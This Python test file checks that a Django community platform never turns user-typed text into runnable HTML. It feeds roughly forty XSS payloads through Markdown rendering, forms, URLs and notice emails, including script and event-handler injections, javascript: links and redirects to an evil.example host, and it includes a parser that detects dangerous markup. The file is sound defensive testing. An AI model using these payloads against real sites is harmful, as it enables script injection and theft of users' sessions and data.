"""Whatever is typed into whatever field is shown as text: by the HTML itself, also without a CSP.

CVE-2021-39161 and CVE-2021-32764 (Discourse): a category's name and a link card ran scripts, and
only the policy of the page stood in between. CVE-2023-36459 (Mastodon): markup that passed the
sanitiser.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.test import Client

from comity.care.actions import alert, answer, write_letter
from comity.notices.jobs import send_notice_mail
from comity.notices.models import Notice
from comity.people.models import Company, Member
from comity.spaces.models import Space
from comity.talk.actions import comment, contribute, edit
from comity.talk.composing import Draft
from comity.talk.models import Contribution, Held
from comity.writing.markdown import render
from tests.cast import Cast, by_hand

CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><button>x",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<style>@import '//evil.example'</style>",
    "<x hx-get=/settings/ hx-trigger=load>",
    "{{ request.user.password }}{% load x %}",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.example \"'onmouseover='alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror=alert(1) y="](https://evil.example/x.png)',
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "# <svg onload=alert(1)>",
    "> <iframe src=//evil.example>",
    "1. <object data=x>",
    "@anna<script>alert(1)</script>",
    "[@anna](javascript:alert(1))",
    "~~<embed src=x>~~",
    "&#x3C;script&#x3E;alert(1)",
    '[a](https://x.example/?q="onclick=alert(1))',
)
FORBIDDEN = frozenset(
    "iframe object embed base math style template noscript mglyph applet frame video audio".split()
)
OUR_SCRIPTS = re.compile(r"^/static/(django_htmx/htmx|doors/comity|ninja/)")


class Found(HTMLParser):
    """What in a page could run, or send something away."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = f"<{tag} {attrs}>"
        given = {name: (value or "") for name, value in attrs}
        if tag in FORBIDDEN or any(name.startswith("on") or name == "srcdoc" for name in given):
            self.wrong.append(told)
        if tag == "script" and not OUR_SCRIPTS.match(given.get("src", "")):
            self.wrong.append(told)
        for name in ("href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post"):
            if _leads_to_code(given.get(name, "")):
                self.wrong.append(told)
        if tag == "form" and "evil" in given.get("action", ""):
            self.wrong.append(told)
        if tag == "meta" and given.get("http-equiv"):
            self.wrong.append(told)
        if tag == "x":
            self.wrong.append(told)


def _leads_to_code(address: str) -> bool:
    plain = re.sub(r"[\x00-\x20]", "", address).lower()
    return plain.startswith(("javascript:", "data:", "vbscript:"))


def runs(html: str) -> list[str]:
    """What in this HTML could run or send something away; empty for a harmless page."""
    found = Found()
    found.feed(html)
    return found.wrong


@pytest.mark.parametrize("text", CORPUS + MARKDOWN)
def test_markdown_renders_nothing_that_runs(text: str) -> None:
    for wrapped in (text, f"a {text} b", f"> {text}", f"- {text}", f"**{text}**", text * 3):
        html = render(wrapped, {"anna": "/members/x/"}.get)
        assert not runs(html)
        assert "<img" not in html


@pytest.mark.parametrize("depth", [100, 5_000])
@pytest.mark.parametrize("mark", ["> ", "- ", "[", "*", "`", "(", "<b>", "![[", "~~"])
def test_deep_markdown_is_rendered_in_no_time(mark: str, depth: int) -> None:
    text = (mark * depth)[:20_000]
    assert not runs(render(text))


def fill(cast: Cast, text: str) -> dict[str, str]:
    """Put a text into every field there is, past every form; returns the ids of what was made."""
    with by_hand():
        Company.objects.update(name=text[:80], reason=text)
        Space.objects.update(**_of_space(text))
        for field in ("name", "headline"):
            Member.objects.exclude(pk=cast.host.pk).update(**{field: text[:80]})
    anna = Member.objects.get(pk=cast.anna.pk)
    given = Draft(text + text, text[:140])
    made, _ = contribute(by=anna, space=cast.public, kind="question", draft=given)
    edit(by=anna, text=made, draft=Draft(f"{text} @bram", text[:140]))
    below, _ = comment(by=Member.objects.get(pk=cast.bram.pk), contribution=made, draft=given)
    with by_hand():
        held = _hold(made, text)
    raised = alert(by=anna, category="courtesy", text=text, about_type="comment", about_id=below.pk)
    answer(by=cast.second_host, alert=raised, text=text)
    write_letter(by=None, name=text[:80], email="lou@example.org", text=text)
    return {
        "made": made.pk,
        "below": below.pk,
        "held": held.pk,
        "alert": raised.pk,
        "anna": anna.pk,
        "company": str(anna.company_id),
    }


def _of_space(text: str) -> dict[str, str]:
    names = {"name_nl": text[:60], "name_en": text[:60]}
    return {**names, "description_nl": text, "description_en": text}


def _hold(made: Contribution, text: str) -> Held:
    packed = {"text": "This word may hurt: %(word)s.", "params": {"word": text}}
    finding = {"clause": "courtesy", "outcome": "hold", "reason": packed, "remedy": packed}
    kept = {**finding, "words": [text], "hint": text}
    proposed = {"title": text[:140], "body": text, "language": "nl"}
    return Held.objects.create(
        contribution=made, author_id=made.author_id, findings=[kept], proposed=proposed
    )


PLACES = (
    "/",
    "/about/",
    "/spaces/",
    "/spaces/square/",
    "/spaces/square/new/",
    "/spaces/square/edit/",
    "/spaces/square/people/",
    "/spaces/square/remove/",
    "/c/{made}/",
    "/c/{made}/history/",
    "/c/{made}/edit/",
    "/c/{made}/delete/",
    "/c/{made}/comments/?reply_to={below}",
    "/comments/{below}/history/",
    "/members/{anna}/",
    "/members/{anna}/contributions/",
    "/notices/",
    "/settings/",
    "/alerts/",
    "/alerts/new/?about=comment:{below}",
    "/desk/",
    "/desk/held/{held}/",
    "/desk/alerts/",
    "/desk/alerts/?answered=1",
    "/desk/alerts/{alert}/",
    "/desk/letters/",
    "/desk/companies/",
    "/desk/companies/{company}/",
    "/desk/hosts/",
    "/desk/applicants/",
)


OF_MEMBERS = [path for path in PLACES if not path.startswith("/desk/")]
EVERYWHERE = [0, 3, 4, 5, 6, 7, 12, 16]
"""Those of the corpus that would break out of a text, an attribute, a title or a field. Each takes
sixty pages, so the others are tried where they differ: in Markdown and in forms."""


@pytest.mark.parametrize("text", [CORPUS[place] for place in EVERYWHERE])
def test_no_field_becomes_markup_on_any_page(cast: Cast, text: str) -> None:
    names = fill(cast, text)
    for who, places in ((cast.anna, OF_MEMBERS), (cast.host, PLACES)):
        client = cast.client_of(Member.objects.get(pk=who.pk))
        for path in places:
            page = client.get(path.format(**names)).content.decode()
            assert not runs(page), (path, who)
    for notice in Notice.objects.all():
        send_notice_mail(notice_id=notice.pk)
    html = [str(body) for sent in mail.outbox for body, _ in getattr(sent, "alternatives", ())]
    assert html
    assert not [wrong for page in html for wrong in runs(page)]


FORMS = (
    ("anna", "/spaces/conversation/new/", ("title", "body", "kind", "language", "confirmation")),
    ("anna", "/settings/", ("name", "headline", "country", "languages", "employer", "claim")),
    ("anna", "/settings/tokens/", ("name", "scopes")),
    ("anna", "/settings/preferences/", ("language",)),
    ("anna", "/alerts/new/", ("category", "text")),
    ("anna", "/preview/", ("body",)),
    ("host", "/spaces/new/", ("name_nl", "name_en", "description_nl", "visibility", "kinds")),
    ("host", "/desk/hosts/", ("handle",)),
    ("stranger", "/about/", ("name", "email", "text", "to", "website")),
    ("stranger", "/accounts/signup/", ("name", "email", "password1", "next")),
    ("stranger", "/accounts/login/", ("login", "password", "next")),
    ("stranger", "/accounts/password/reset/", ("email",)),
)


@pytest.mark.parametrize(("who", "path", "fields"), FORMS)
def test_a_form_that_comes_back_shows_what_was_typed_as_text(
    cast: Cast, who: str, path: str, fields: tuple[str, ...]
) -> None:
    client = cast.client_of(getattr(cast, who))
    for text in CORPUS:
        page = client.post(path, dict.fromkeys(fields, text)).content.decode()
        assert not runs(page), text


QUERIES = ("/?cursor={}", "/spaces/square/?kind={}", "/spaces/square/new/?kind={}")
MORE = ("/accounts/login/?next={}", "/alerts/new/?category={}", "/code/accept/?next={}", "/{}/")


@pytest.mark.parametrize("address", QUERIES + MORE)
def test_an_address_is_shown_as_text(cast: Cast, address: str) -> None:
    for client in (Client(), cast.client_of(cast.anna)):
        for text in CORPUS:
            page = client.get(address.format(text.replace("#", "").replace("?", "")))
            assert not runs(page.content.decode()), text
